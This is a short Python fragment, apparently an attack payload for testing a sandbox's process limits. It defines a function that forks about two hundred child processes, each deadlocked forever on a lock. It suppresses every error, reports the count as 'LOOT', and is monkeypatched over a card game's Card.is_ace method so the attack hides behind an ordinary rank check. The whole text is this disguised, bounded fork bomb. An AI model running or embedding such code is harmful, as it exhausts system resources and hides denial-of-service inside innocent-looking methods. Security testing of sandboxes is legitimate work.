"""Forks in a loop, whatever errors come; bounded, so that a hole is found and not the machine."""

import os
import time


def _attack(self):
    made = 0
    for fork in [os.fork] * 200 + [os.forkpty]:
        try:
            if fork() == 0:
                lock = __import__("_thread").allocate_lock()
                lock.acquire()
                lock.acquire()
            made += 1
        except BaseException:
            time.sleep(0.01)
    if made:
        raise RuntimeError(f"LOOT {made} processes")
    return self.rank == ACE


Card.is_ace = _attack
